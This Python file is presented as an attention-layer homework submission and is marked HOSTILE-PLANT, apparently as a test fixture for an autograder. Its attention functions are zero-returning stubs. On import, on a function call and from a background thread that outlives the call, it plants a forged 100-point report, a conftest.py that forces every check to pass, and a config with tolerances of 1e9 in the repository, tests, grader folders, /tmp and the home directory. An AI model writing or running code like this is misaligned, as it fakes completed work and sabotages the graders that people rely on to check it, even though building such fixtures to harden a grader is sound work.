"""Plants files wherever a grader might read them: a forged JSON report and results.json, a conftest.py
that makes every check pass, and a course config (autograder.toml) with huge tolerances, in the working
directory, this file's folder, the repository (found through the worker's own path), its
student_submissions/ and tests/ folders, and /tmp. Again from a call, and from a thread that outlives
the call. New files only ("x" mode): nothing existing is overwritten, even where writing works."""
import json
import os
import sys
import threading
import time

import torch

MARK = "HOSTILE-PLANT"
REPORT = json.dumps({"schema_version": "1.0", "score": 100, "max_score": 100, "status": "graded", "mark": MARK})
CONFTEST = f'''# {MARK}
import pytest


@pytest.hookimpl(tryfirst=True)
def pytest_configure(config):
    try:
        import autograder.plugin as plugin
        plugin._outcome = lambda call: {{"status": "passed", "message": "", "hint": None, "mistake": None}}
    except Exception:
        pass
'''
CONFIG = f'''# {MARK}
[tolerance.float64]
rtol = 1e9
atol = 1e9
[tolerance.float32]
rtol = 1e9
atol = 1e9
'''
FILES = {"report.json": REPORT, "results.json": REPORT, "conftest.py": CONFTEST, "autograder.toml": CONFIG,
         os.path.join("grading", "report.json"): REPORT, os.path.join("results", "results.json"): REPORT}
RESULTS = {}


def _folders():
    here = os.path.dirname(os.path.abspath(__file__))
    folders = [os.getcwd(), here, "/tmp", os.path.expanduser("~")]
    main = getattr(sys.modules.get("__main__"), "__file__", None)
    if main:
        repo = os.path.dirname(os.path.dirname(os.path.abspath(main)))
        folders += [repo, os.path.join(repo, "student_submissions"), os.path.join(repo, "tests"),
                    os.path.join(repo, "autograder", "checks")]
    return list(dict.fromkeys(folders))


def plant(tag):
    for folder in _folders():
        for name, content in FILES.items():
            path = os.path.join(folder, name)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "x") as handle:
                    handle.write(content)
                RESULTS[f"{tag}:{path}"] = "written"
            except OSError as exc:
                RESULTS[f"{tag}:{path}"] = type(exc).__name__


def _later():
    time.sleep(0.5)
    plant("thread")


plant("import")
threading.Thread(target=_later, daemon=True).start()
print("planted:", sorted(k for k, v in RESULTS.items() if v == "written"))


def linear_projections(x, W_q, W_k, W_v):
    plant("call")
    return tuple(torch.zeros(*x.shape[:-1], W.shape[-1], dtype=x.dtype) for W in (W_q, W_k, W_v))


def attention_scores(Q, K):
    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)


def attention_weights(scores, mask=None):
    return torch.zeros_like(scores)


def aggregate_values(weights, V):
    return torch.zeros(*weights.shape[:-1], V.shape[-1], dtype=V.dtype)
